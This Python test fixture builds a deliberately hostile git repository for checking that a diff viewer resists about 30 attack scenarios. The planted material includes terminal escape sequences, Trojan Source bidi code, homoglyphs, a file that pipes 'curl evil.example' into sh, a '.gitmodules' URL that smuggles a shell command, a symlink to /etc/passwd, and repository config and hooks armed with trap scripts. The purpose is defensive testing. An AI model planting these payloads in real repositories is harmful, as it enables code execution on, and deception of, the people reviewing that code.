"""Provides :func:`build_hostile_repo`: a real repository holding the reference's test scenarios 1-30.

Reference: ``shared/reference/security-and-bad-inputs.md``, "Test scenarios".
Every tree and commit object is written byte for byte through the object
database (``odb.write``), so paths, author names and messages can hold what
the porcelain would refuse or normalise: ESC, C1, NUL-free control bytes,
Latin-1 bytes, newlines in file names, symlinks, gitlinks. Nothing here runs
git or checks anything out.

After the history, the repository's own configuration is armed the way an
attacker would arm it (``core.fsmonitor``, ``diff.external``, textconv and
filter drivers, a pager, hooks in ``.git/hooks`` including an executable
``post-checkout``): each runs a script that appends to ``marker``. Reading
the repository must never create that file.

:func:`build_broken_repos` makes scenario 30's repositories: one whose commit
names a parent object that is missing (a shallow clone without its
``shallow`` file) and one with a corrupt (truncated) loose object.
"""

from __future__ import annotations

import random
import stat
import zlib
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path

import pygit2
from pygit2.enums import ObjectType

MODE_FILE, MODE_EXEC, MODE_LINK, MODE_GITLINK, MODE_TREE = 0o100644, 0o100755, 0o120000, 0o160000, 0o40000
T0 = 1_767_225_600  # 2026-01-01T00:00:00Z
CLAUDE = b"\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n"

ESC = "\x1b"
OSC52_ST = ESC + "]52;c;ZXZpbA==" + ESC + "\\"
OSC52_BEL = ESC + "]52;c;ZXZpbA==\x07"
OSC8 = ESC + "]8;;https://evil.example/" + ESC + "\\click" + ESC + "]8;;" + ESC + "\\"
CLEAR = ESC + "[2J" + ESC + "[H"
BIDI = ["\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
        "\u2066", "\u2067", "\u2068", "\u2069"]


@dataclass
class Scenario:
    """One hostile commit: which reference scenarios it covers and what ``triage show`` must say."""

    numbers: tuple[int, ...]
    slug: str
    sha: str
    title: bytes
    show_must_contain: tuple[str, ...] = ()
    """Substrings of ``triage show`` text output (the evidence is shown, not hidden)."""

    @property
    def short(self) -> str:
        """A sha prefix, as a person would type it."""
        return self.sha[:12]


@dataclass
class HostileRepo:
    """The built corpus."""

    path: Path
    marker: Path
    scenarios: list[Scenario] = field(default_factory=list)

    def get(self, slug: str) -> Scenario:
        """The scenario named ``slug``."""
        return next(s for s in self.scenarios if s.slug == slug)

    @property
    def numbers(self) -> set[int]:
        """Every reference scenario number the corpus covers."""
        return {n for s in self.scenarios for n in s.numbers}


# ------------------------------------------------------------------ raw objects


def write_tree(repo: pygit2.Repository, entries: dict[bytes, tuple[int, pygit2.Oid]]) -> pygit2.Oid:
    """Write the nested trees for ``path -> (mode, oid)`` and return the root tree id."""
    files: dict[bytes, tuple[int, pygit2.Oid]] = {}
    dirs: dict[bytes, dict] = defaultdict(dict)
    for path, value in entries.items():
        head, sep, rest = path.partition(b"/")
        if sep:
            dirs[head][rest] = value
        else:
            files[head] = value
    rows = [(name, mode, oid) for name, (mode, oid) in files.items()]
    rows += [(name, MODE_TREE, write_tree(repo, sub)) for name, sub in dirs.items()]
    rows.sort(key=lambda r: r[0] + (b"/" if r[1] == MODE_TREE else b""))
    data = b"".join(b"%o %s\0" % (mode, name) + oid.raw for name, mode, oid in rows)
    return repo.odb.write(ObjectType.TREE, data)


def write_commit(repo: pygit2.Repository, tree: pygit2.Oid, parents: list[pygit2.Oid], author: bytes,
                 when: int, message: bytes, committer: bytes | None = None) -> pygit2.Oid:
    """Write a commit object from raw bytes (``author`` is ``b"Name <email>"``)."""
    head = [b"tree %s" % str(tree).encode()]
    head += [b"parent %s" % str(p).encode() for p in parents]
    head.append(b"author %s %d +0000" % (author, when))
    head.append(b"committer %s %d +0000" % (committer or author, when))
    return repo.odb.write(ObjectType.COMMIT, b"\n".join(head) + b"\n\n" + message)


class _History:
    def __init__(self, repo: pygit2.Repository):
        self.repo = repo
        self.files: dict[bytes, tuple[int, pygit2.Oid]] = {}
        self.head: pygit2.Oid | None = None
        self.when = T0
        self.scenarios: list[Scenario] = []

    def put(self, path: str | bytes, data: bytes | str, mode: int = MODE_FILE) -> None:
        raw = path.encode() if isinstance(path, str) else path
        blob = data.encode() if isinstance(data, str) else data
        self.files[raw] = (mode, self.repo.create_blob(blob))

    def gitlink(self, path: str, sha: str) -> None:
        self.files[path.encode()] = (MODE_GITLINK, pygit2.Oid(hex=sha))

    def drop(self, path: str | bytes) -> None:
        del self.files[path.encode() if isinstance(path, str) else path]

    def commit(self, numbers: tuple[int, ...], slug: str, title: str | bytes, *, body: str | bytes = b"",
               author: bytes = b"Mallory Agent <mallory@example.com>", ai: bool = True,
               parents: list[pygit2.Oid] | None = None, show: tuple[str, ...] = (), record: bool = True,
               advance: bool = True) -> pygit2.Oid:
        self.when += 3600
        t = title.encode("utf-8", "surrogateescape") if isinstance(title, str) else title
        b = body.encode("utf-8", "surrogateescape") if isinstance(body, str) else body
        message = t + (b"\n\n" + b if b else b"") + (CLAUDE if ai else b"\n")
        tree = write_tree(self.repo, self.files)
        parents = parents if parents is not None else ([self.head] if self.head else [])
        oid = write_commit(self.repo, tree, parents, author, self.when, message)
        if advance:
            self.head = oid
        if record:
            self.scenarios.append(Scenario(numbers, slug, str(oid), t, show))
        return oid


# ------------------------------------------------------------------ the corpus


def _base(h: _History) -> None:
    h.put("README.md", "# hostile corpus\n\nEvery commit here is an attack on a diff viewer.\n")
    h.put("src/app.py", "def main():\n    return 0\n")
    h.put("s16/pairs.py", "alpha = 1\nbeta = 2\ngamma = 3\ndelta = 4\n")
    h.put("s21/rename_me.py", "".join(f"value_{i} = {i}\n" for i in range(40)))
    h.put("s21/copy_src.py", "".join(f"def copied_{i}():\n    return {i}\n" for i in range(30)))
    h.put("s22/run.sh", "#!/bin/sh\necho run\n")
    h.put("s23/link_or_file.txt", "a regular file, soon a symlink\n")
    h.put(".gitmodules", '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://example.com/lib.git\n')
    h.gitlink("vendor/lib", "1" * 40)
    h.put("s27/no_eol_old.txt", b"first\nlast line without newline")
    h.put("s16/crlf.txt", "one\ntwo\nthree\n")
    h.commit((), "base", "Initial import", ai=False, author=b"Alice Martin <alice@example.com>", record=False)


def _escapes(h: _History) -> None:
    h.put("s01/osc52.py", f"clip = '{OSC52_ST}'\nclip2 = '{OSC52_BEL}'\nafter_osc = 'still visible'\n")
    h.commit((1,), "osc52", f"Add clipboard helper {OSC52_BEL} done",
             body=f"Body with {OSC52_ST} and {OSC8}", author=f"Eve {OSC52_ST} <eve@example.com>".encode(),
             show=("^[]52;c;ZXZpbA==",))
    h.put("s02/c1_\u009b31m.py", "x = '\u009b2J\u009d0;t\u009c'\n")
    h.put(b"s02/raw_\x9b.txt", b"raw \x9b byte and \x9d osc\n")
    h.commit((2,), "c1", "C1 controls \u009b31m red \u009d0;title\u009c in a title",
             author=b"C1 \xc2\x9b31m Person <c1@example.com>", show=("\\x9b",))
    h.put("s03/notes.md", "release notes\n")
    h.commit((3,), "clear-screen", f"{CLEAR}\u2714 checks passed", body=f"{CLEAR}all green, ship it",
             show=("^[[2J^[[H",))
    h.put("s04/title.py", "TITLE = 1\n")
    h.commit((4,), "title-sequences", f"{ESC}]0;owned{chr(7)}{ESC}]2;owned{ESC}\\{ESC}[21t{ESC}[8mhidden{ESC}[0m shown",
             author=f"{OSC8} <osc8@example.com>".encode(), show=("^[[8mhidden",))


def _markup(h: _History) -> None:
    h.put(b"s05/[link=file:evil]setup.py[/link]", "print('setup')\n")
    h.commit((5,), "link-markup", "[link=https://evil.example/]setup.py[/link] update",
             show=("[link=file:evil]setup.py[/link]",))
    h.put(b"s06/a[@click=app.quit]b[/]", "quit\n")
    h.put(b"s06/a[@click=app.approve]b[/]", "approve\n")
    h.commit((6,), "click-markup", "[@click=app.quit]click me[/] and [@click=app.approve]ok[/]",
             show=("a[@click=app.quit]b[/]",))
    h.put("s07/markup.md", "[/] closes nothing\n[bold never closed\n[link=x]half\n")
    h.commit((7,), "unbalanced", "fix [/] and [bold unbalanced [/x] tags", show=("[bold unbalanced",))
    h.put("s08/paths.py", "WIN = 'C:\\\\'\nESCAPED = '\\[x]'\nTRAIL = 'x' \\\n    'y'\n")
    h.commit((8,), "backslash", "ends with a backslash \\", show=("backslash \\",))


def _controls(h: _History) -> None:
    h.put("s09/cr.py", "status = 'safe\rEVIL'\nshown = 'ok\b\bNO'\n")
    h.commit((9,), "cr-bs", "safe\rEVIL overstrike ok\b\bNO", show=("safe␍EVIL", "ok^H^HNO"))
    h.put("s10/run.sh", b"#!/bin/sh\necho ok\x7f\necho 'a\x00b'\n")
    h.commit((10,), "nul-del", "NUL and DEL in a shell script")


def _unicode(h: _History) -> None:
    trojan = ('access_level = "user"\n'
              'if access_level != "user\u202e \u2066# Check if admin\u2069 \u2066":\n'
              '    print("You are an admin.")\n'
              '# \u2067 comment with RLI \u2069\n')
    h.put("s11/trojan.py", trojan)
    h.commit((11,), "trojan-source", "Harmless \u202eetirwer\u202c refactor", show=("⟨U+202E RLO⟩",))
    lines = [f"bidi {ord(c):04X}: a{c}b\n" for c in BIDI]
    lines += ["zwsp: a\u200bb\n", "zwj: a\u200db\n", "mid-file bom: a\ufeffb\n"]
    h.put("s12/each_bidi.txt", "".join(lines))
    h.put("s12/hangul.js", "const \u3164 = 'invisible variable';\nif (\u3164) { run(\u3164); }\n")
    h.commit((12,), "bidi-zero-width", "Each bidi control\u200b alone, zero\u200dwidth")
    vs = "".join(chr(0xFE00 + (i % 16)) for i in range(128))
    tags = "".join(chr(0xE0000 + ord(c)) for c in "rm -rf ~/")
    h.put("s13/payload.js", f"const x = 'a{vs}';\nconst y = 'b{tags}';\n")
    h.commit((13,), "variation-tags", "Variation selectors and tag characters")
    h.put("s14/auth.py", "if user == '\u0430dmin':\n    allow()\nHOST = 'p\u0430ypal.example'\n")
    h.commit((14,), "homoglyph", "Check \u0430dmin (Cyrillic a)")
    h.put("s15/lines.py", "a = 'one\u2028two'\nb = 'three\u0085four'\nc = 'five\x0bsix\x0cseven'\nd = 8\n")
    h.commit((15,), "line-breakers", "Line separators inside lines")
    h.put("s16/pairs.py", "alpha = 1\r\nbeta\u00a0= 2\ngamma = 3   \ndelta = 4\n")
    h.put("s16/crlf.txt", "one\r\ntwo\r\nthree\r\n")
    h.commit((16,), "invisible-pairs", "Only line endings, NBSP and trailing spaces", show=("CRLF",))


def _git_cases(h: _History) -> None:
    h.put(".gitattributes", "*.py -diff\n*.cfg diff=evil filter=evil\n")
    h.put("s17/hidden.py", "import os\nos.system('curl evil.example | sh')\n")
    h.put("s17/settings.cfg", "key = value\n")
    h.commit((17,), "gitattributes", "Tidy attributes", show=(".gitattributes changed",))
    rng = random.Random(18)
    h.put("s18/blob.bin", b"\x00\x01\x02" + rng.randbytes(4096))
    h.put("s18/early_nul.txt", b"text\x00with an early NUL\nand more lines\n")
    h.commit((18,), "binary", "Binary and early NUL", show=("binary",))
    h.put("s19/big.py", "".join(f"value_{i} = {i} * 2  # line {i}\n" for i in range(20_000)))
    h.put("s19/app.min.js", "var a=" + "1+" * 1_000_000 + "1;")
    h.commit((19,), "huge", "A 20k-line file and a 2 MB one-line script")
    h.put("s20/patho.py", "x = " + "(" * 5000 + ")" * 5000 + "\n" + "s = '" + "\\'" * 50_000 + "'\n"
          + "#" + "\t " * 50_000 + "\n")
    h.commit((20,), "pathological", "Pathological input for a highlighter")
    h.put("s21/renamed.py", h.repo[h.files[b"s21/rename_me.py"][1]].data)
    h.drop("s21/rename_me.py")
    h.put("s21/copy_dst.py", h.repo[h.files[b"s21/copy_src.py"][1]].data)
    h.commit((21,), "rename-copy", "Move the module", show=("renamed s21/rename_me.py -> s21/renamed.py (100%)",))
    mode, oid = h.files[b"s22/run.sh"]
    h.files[b"s22/run.sh"] = (MODE_EXEC, oid)
    h.commit((22,), "mode-only", "Make run.sh executable", show=("(+x)",))
    h.put("s23/link_or_file.txt", "/etc/passwd", MODE_LINK)
    h.put("s23/up.lnk", "../../x", MODE_LINK)
    h.commit((23,), "symlinks", "Link the config", show=("symlink -> /etc/passwd", "outside the repository"))
    h.gitlink("vendor/lib", "2" * 40)
    h.put(".gitmodules", '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = ext::sh -c touch% /tmp/pwned\n')
    h.commit((24,), "submodule", "Bump vendored lib", show=("submodule", ".gitmodules changed"))
    h.put(b"s25/lat\xe9.txt", "latin-1 name\n")
    h.put(b"s25/new\nline.txt", "newline in the name\n")
    h.put(b's25/quo"te.txt', "quote\n")
    h.put(b"s25/sp ace.txt", "space\n")
    h.put(b"s25/tab\tname.txt", "tab\n")
    h.commit((25,), "odd-names", "Odd file names", author=b"Jos\xe9 Latin1 <jose@example.com>",
             show=("path is not valid UTF-8", "lat\\xe9.txt"))
    h.put("s26/latin1.txt", b"caf\xe9 cr\xe8me br\xfbl\xe9e\n")
    h.put("s26/utf16.txt", "h\u00e9llo w\u00f6rld\n".encode("utf-16"))
    h.commit((26,), "encodings", b"Latin-1 \xe9 and UTF-16 content", show=("content is not valid UTF-8",))
    h.put("s27/no_eol_old.txt", "first\nlast line now ends\n")
    h.put("s27/no_eol_new.txt", b"added without a final newline")
    h.commit((27,), "no-eol", "Newline at end of file, both ways", show=("no newline at end of file",))


def _merges(h: _History) -> None:
    base = h.head
    saved = dict(h.files)
    h.put("s28/side.py", "SIDE = True\n")
    side = h.commit((28,), "side", "Side branch work", record=False, advance=False)
    h.files = dict(saved)
    h.put("s28/main.py", "MAIN = True\n")
    main = h.commit((28,), "main-before-merge", "Main moves on")
    h.put("s28/side.py", "SIDE = True\n")
    h.commit((7, 28), "merge", "Merge branch '[bold]x[/]' into main", parents=[main, side], show=("merge",))
    # An evil merge: the merge commit adds a change found in neither parent.
    h.files = dict(saved)
    h.put("s28/evil_side.py", "EVIL_SIDE = 1\n")
    side2 = h.commit((28,), "side2", "Second side branch", record=False, advance=False, parents=[base])
    h.files = dict(saved)
    h.put("s28/main.py", "MAIN = True\n")
    h.put("s28/side.py", "SIDE = True\n")
    h.put("s28/evil_side.py", "EVIL_SIDE = 1\n")
    h.put("s28/evil.py", "import os\nos.system('id')\n")
    h.commit((28,), "evil-merge", "Merge branch 'feature' (nothing to see)", parents=[h.head, side2],
             show=("s28/evil.py",))
    h.commit((28,), "empty", "An empty commit", show=("files (0",))


def _arm(path: Path, marker: Path) -> None:
    """Arm the repository's configuration and hooks so that running any of them leaves ``marker``."""
    git_dir = path / ".git"
    script = git_dir / "trap.sh"
    script.write_text(f'#!/bin/sh\necho "trap ran: $0 $*" >> "{marker}"\ncat\n')
    script.chmod(0o755)
    s = str(script)
    cfg = pygit2.Repository(str(path)).config
    for key, value in {
        "core.fsmonitor": s,
        "core.hooksPath": str(git_dir / "hooks"),
        "core.pager": s,
        "core.editor": s,
        "core.sshCommand": s,
        "core.askPass": s,
        "diff.external": s,
        "diff.evil.textconv": s,
        "diff.evil.command": s,
        "filter.evil.clean": s,
        "filter.evil.smudge": s,
        "filter.evil.process": s,
        "filter.evil.required": "true",
        "credential.helper": "!" + s,
        "sequence.editor": s,
        "gpg.program": s,
        "uploadpack.packObjectsHook": s,
        "pager.log": s,
        "alias.log": "!" + s,
    }.items():
        cfg[key] = value
    hooks = git_dir / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("post-checkout", "pre-commit", "post-merge", "post-rewrite", "pre-push", "fsmonitor-watchman",
                 "reference-transaction", "post-index-change"):
        hook = hooks / name
        hook.write_text(f'#!/bin/sh\necho "hook {name} ran" >> "{marker}"\n')
        hook.chmod(hook.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)


def build_hostile_repo(dest: Path | str, marker: Path | str) -> HostileRepo:
    """Build the corpus in ``dest`` (a new directory); traps append to ``marker``."""
    dest, marker = Path(dest), Path(marker)
    repo = pygit2.init_repository(str(dest), initial_head="main")
    h = _History(repo)
    _base(h)
    _escapes(h)
    _markup(h)
    _controls(h)
    _unicode(h)
    _git_cases(h)
    _merges(h)
    repo.references.create("refs/heads/main", h.head, force=True)
    repo.set_head("refs/heads/main")
    _arm(dest, marker)
    return HostileRepo(dest, marker, h.scenarios)


def build_broken_repos(dest: Path | str) -> dict[str, Path]:
    """Scenario 30: ``missing-parent`` (a shallow clone without its ``shallow`` file) and ``corrupt-object``."""
    dest = Path(dest)
    out = {}
    for kind in ("missing-parent", "corrupt-object"):
        path = dest / kind
        repo = pygit2.init_repository(str(path), initial_head="main")
        h = _History(repo)
        h.put("a.py", "A = 1\n")
        first = h.commit((30,), "first", "first", author=b"A <a@example.com>")
        h.put("b.py", "B = 2\n")
        h.commit((30,), "second", "second", author=b"A <a@example.com>")
        h.put("c.py", "C = 3\n")
        h.commit((30,), "third", "third", author=b"A <a@example.com>")
        repo.references.create("refs/heads/main", h.head, force=True)
        repo.set_head("refs/heads/main")
        if kind == "missing-parent":
            victim = first
        else:
            victim = h.files[b"b.py"][1]
        hexsha = str(victim)
        obj = path / ".git" / "objects" / hexsha[:2] / hexsha[2:]
        if kind == "missing-parent":
            obj.unlink()
        else:
            raw = zlib.decompress(obj.read_bytes())
            obj.chmod(0o644)
            obj.write_bytes(zlib.compress(raw)[: max(8, len(raw) // 3)])
        out[kind] = path
    return out


def assert_no_marker(marker: Path) -> None:
    """Fail with what ran if the trap marker exists."""
    if marker.exists():
        raise AssertionError(f"a repository trap was executed: {marker.read_text()[:500]}")


__all__ = ["HostileRepo", "Scenario", "assert_no_marker", "build_broken_repos", "build_hostile_repo",
           "write_commit", "write_tree"]
